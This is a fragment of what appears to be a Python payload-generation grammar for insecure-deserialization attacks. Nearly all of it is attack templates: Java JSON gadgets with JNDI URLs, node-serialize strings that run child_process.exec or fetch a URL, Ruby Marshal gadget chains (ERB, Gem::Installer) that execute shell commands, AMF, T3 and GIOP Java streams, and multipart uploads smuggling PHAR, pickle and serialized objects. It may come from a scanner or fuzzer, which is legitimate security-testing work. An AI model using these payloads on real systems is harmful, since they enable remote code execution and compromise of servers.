  ¦ {"type":"«json_gadget»","properties":{"UserTransaction":"«jndi_url»"}}
  ¦ [{"@type":"«json_gadget»"},{"@type":"java.io.«=FileOutputStream~Reader~InputStream»","file":"/tmp/«rand»"}]
  ¦ {"_$$ND_FUNC$$_«word»":"«rand»"}
  ¦ {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('«unix_cmd|js»')}()"} ¦ {"xmldata":"«java_xml|js»"}
ruby_class := Gem::Installer ¦ Gem::Requirement ¦ Gem::StubSpecification ¦ ERB
  ¦ ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy ¦ OpenStruct ¦ Gem::SpecFetcher ¦ Gem::Source
  ¦ JSON::GenericObject ¦ Gem::Version ¦ Rack::Session::Abstract::SessionHash ¦ Sprockets::ERBProcessor
  ¦ Net::WriteAdapter ¦ ActiveModel::AttributeMethods::«coined|cap»
ruby_raw := «x04»«x08»o:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy«x07»:«x0e»@instanceo:«x08»ERB«x07»:«x09»@srcI"«x1a»`«unix_info»`«x06»:«x06»ET
  ¦ «x04»«x08»[«x08»c«x15»Gem::SpecFetcherc«x13»Gem::InstallerU:«x15»Gem::Requirement[«x06»o:«x1c»Gem::Package::TarReader«x06»:«x08»@ioo:«x14»Net::BufferedIO«unix_info»
  ¦ «x04»«x08»{«x06»I"«x0f»session_id«x06»:«x06»ETo:«ruby_class»«x06»:«x0a»@«word»I"«unix_info»
  ¦ «x04»«x08»U:«x15»Gem::Requirement[«x06»o:«x18»Gem::DependencyList«x07»:«x0b»@specs[«x07»o:«x1e»Gem::Source::SpecificFile
ruby_text := *2 «ruby_raw|b64»
  ¦ BAh«=bCGMVR2VtOjpTcGVjRmV0Y2hlcm~vOkBBY3RpdmVTdXBwb3J0~7BkkiD3Nlc3Npb25faW~VOhVHZW06OlJlcXVpcmVtZW50»«b40»--«hex40»
  ¦ «ruby_raw|b64|url»--«hex40» ¦ «ruby_raw» ¦ «ruby_raw|hex»
node_text := {"«word»":"_$$ND_FUNC$$_function(){require('child_process').exec('«unix_cmd|js»')}()"} ¦ eyJ«b40»
  ¦ {"username":"_$$ND_FUNC$$_function(){return «int»*«int»}()"} ¦ «node_json|b64» ¦ j:{"__js_function":"«rand»"}
node_json := {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('«unix_cmd»',function(e,o){})}()"}
  ¦ {"email":"_$$ND_FUNC$$_(function(){require('http').get('«url»')})()"}
amf := «nul»«x03»«nul»«nul»«nul»«x01»«nul»«x04»null«nul»«x02»/1«nul»«nul»«nul»z«x11»«x0a»«x07»«gadget»
  ¦ M«x74»«nul»«x14»«gadget»S«nul»«x05»value«java_cmd_s»
  ¦ H«x02»«nul»M«xb2»java.util.HashMapC0)«gadget»«x91»«x91»S«nul»«x08»«jndi_url»
  ¦ «x4f»«xab»«gadget»«x92»«x0b»methodName ¦ «nul»«nul»«nul»«nul»TP«hex8»«java_stream»
  ¦ t3 12.2.1«nl»AS:255«nl»HL:19«nl»MS:10000000«nl»«nl»«java_stream»
  ¦ GIOP«x01»«x02»«nul»«x03»«nul»«nul»«nul»«x17»RMI:«gadget»:«hex16»
java_cmd_s := «any_cmd» ¦ «jndi_url»
phar_file := Content-Disposition: form-data; name="«word»"; filename="«rand».«=jpg~phar~gif»"«cr»«nl»Content-Type: image/«=jpeg~gif»«cr»«nl»«cr»«nl»GIF89a<?php __HALT_COMPILER(); ?>«cr»«nl»«x80»«nul»«nul»«nul»«x01»«nul»«nul»«nul»«x11»«nul»«php_obj»«x08»test.txtGBMB
  ¦ Content-Disposition: form-data; name="«=file~import~session~backup~data»"; filename="«word».«=ser~bin~dat~pkl~session~rsess»"«cr»«nl»Content-Type: application/octet-stream«cr»«nl»«cr»«nl»«java_stream»
  ¦ Content-Disposition: form-data; name="model"; filename="«word».«=pkl~pt~joblib»"«cr»«nl»Content-Type: application/octet-stream«cr»«nl»«cr»«nl»«pickle_b»
  ¦ Content-Disposition: form-data; name="«name»"«cr»«nl»«cr»«nl»«php_obj»
"""  # noqa: E501
